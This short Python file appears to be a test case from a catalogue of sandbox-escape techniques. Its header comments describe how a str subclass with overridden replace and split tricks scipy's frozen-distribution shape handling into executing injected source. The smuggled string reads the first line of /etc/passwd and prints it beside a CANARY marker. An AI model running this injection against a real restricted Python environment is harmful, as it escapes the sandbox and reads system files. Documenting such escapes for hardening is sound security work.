# class: data
# mechanism: reader by path
# how: a frozen distribution of scipy holds one of its own (dist), whose shapes are written with a text of an own class; freezing that makes another out of them, and scipy runs what they hold
# reaches: reads /etc/passwd
from scipy import stats

class Names:
    def __init__(self):
        self.n = 0

    def __len__(self):
        return 1

    def __iter__(self):
        self.n += 1
        if self.n == 1:
            return iter(["a"])
        return iter(["a=''', y=print('CANARY', open('/etc/passwd').readline())): pass\n#"])

class Shapes(str):
    def replace(self, a, b):
        return self

    def split(self):
        return Names()

d = stats.gamma(2).dist
d.shapes = Shapes("a")
d.freeze(2)
